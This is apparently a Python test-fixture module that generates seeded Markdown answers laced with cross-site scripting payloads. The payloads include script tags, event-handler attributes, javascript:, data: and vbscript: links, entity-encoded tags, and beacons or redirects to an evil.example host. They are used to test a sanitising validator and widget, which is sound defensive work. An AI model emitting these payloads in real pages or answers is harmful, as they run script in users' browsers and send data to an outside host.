"""Hostile answers, generated from a fixed seed, for the validator's and the widget's tests.

Each answer puts markup a model (or a page injected into its excerpts) might write into
the places the Markdown contract has: paragraphs, headings, list and task items, quotes,
table cells, emphasis and link labels, and also inside code spans and fenced code, where
it must show exactly as written. The markup: raw HTML (inline, blocks, comments,
declarations, processing instructions, CDATA), tags written with entities or
backslashes, and links to `javascript:`, `data:`, `vbscript:`, off-site and missing
targets, beside links that are allowed. Every answer cites an excerpt, so all of it is
shown. The pages, excerpts and off-site URL are `markdown_contract.yaml`'s.

What the tests hold every answer to: no live link outside the page set and the
excerpts' URLs, no script run, no text outside code that reads as a tag (`TAG_TEXT`),
and each payload placed in code shown there as written (`Answer.in_code`).
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

SEED = 24
COUNT = 240
CITE = "[[/guide/#setup]]"

RAW_HTML = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="https://evil.example/?q=secret">evil</a>',
    "<b onmouseover=alert(1)>bold</b>",
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<?php echo 1; ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<details open ontoggle=alert(1)>summary</details>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<textarea><script>alert(1)</script></textarea>",
    '<p title="</p><img src=x onerror=alert(1)>">para</p>',
    "<div\nonclick=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<<b>b>nested</b>",
]
WRITTEN_AS_TEXT = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\\<b>bold\\</b>",
    '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;',
    "&lt;!-- comment --&gt;",
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[off-site](https://evil.example/?q=secret)",
    "[protocol-relative](//evil.example/)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "[missing anchor](/guide/#nowhere)",
    "[missing page](/nope/)",
    "![beacon](https://evil.example/beacon.png)",
    "[![img](x)](javascript:alert(1))",
    "[label][ref]\n\n[ref]: javascript:alert(1)",
    "[fine](/guide/#install)",
    "[docs](https://ok.example/docs)",
]
PAYLOADS = RAW_HTML + WRITTEN_AS_TEXT + LINKS

# Places a payload goes; "{}" is the payload. Inline places take one-line payloads.
BLOCK_PLACES = ["{}", "> {}", "- {}"]
INLINE_PLACES = [
    "Note: {} " + CITE + ".",
    "## Heading {}",
    "- item {}",
    "- [ ] task {}",
    "> quoted {}",
    "*emphasis {}*",
    "[label {}](/guide/#setup)",
    "| column | other |\n| --- | --- |\n| {} | cell |",
]
CODE_SPAN = "Code: `{}` " + CITE + "."
FENCED = "```html\n{}\n```"

# Text that reads as a tag (what a browser would take for markup): a tag, a comment, a
# processing instruction, CDATA or a declaration. None may show outside code.
TAG_TEXT = re.compile(
    r"</?[A-Za-z][^<>]*>|<!--[\s\S]*?-->|<\?[\s\S]*?\?>|<!\[CDATA\[[\s\S]*?\]\]>"
    r"|<![A-Za-z][^<>]*>"
)


@dataclass(frozen=True)
class Answer:
    markdown: str
    in_code: tuple[str, ...]  # payloads placed in code, to be shown there as written


def _place(rng: random.Random, payload: str) -> tuple[str, str | None]:
    """The payload in one place; the payload again when that place is code."""
    one_line = "\n" not in payload
    roll = rng.random()
    if roll < 0.15:
        return FENCED.format(payload), payload
    if roll < 0.3 and one_line and "`" not in payload:
        return CODE_SPAN.format(payload), payload
    places = INLINE_PLACES if one_line and "|" not in payload else BLOCK_PLACES
    return rng.choice(places).format(payload), None


def hostile_answers(count: int = COUNT, seed: int = SEED) -> list[Answer]:
    """``count`` answers of two to five hostile blocks each, one cited paragraph first."""
    rng = random.Random(seed)
    answers = []
    for i in range(count):
        blocks = [f"What the docs say {CITE}."]
        in_code = []
        # Every payload appears in turn; the others are drawn at random.
        payloads = [PAYLOADS[i % len(PAYLOADS)], *rng.sample(PAYLOADS, rng.randint(1, 4))]
        for payload in payloads:
            block, code = _place(rng, payload)
            blocks.append(block)
            if code is not None:
                in_code.append(code)
        answers.append(Answer("\n\n".join(blocks), tuple(in_code)))
    return answers
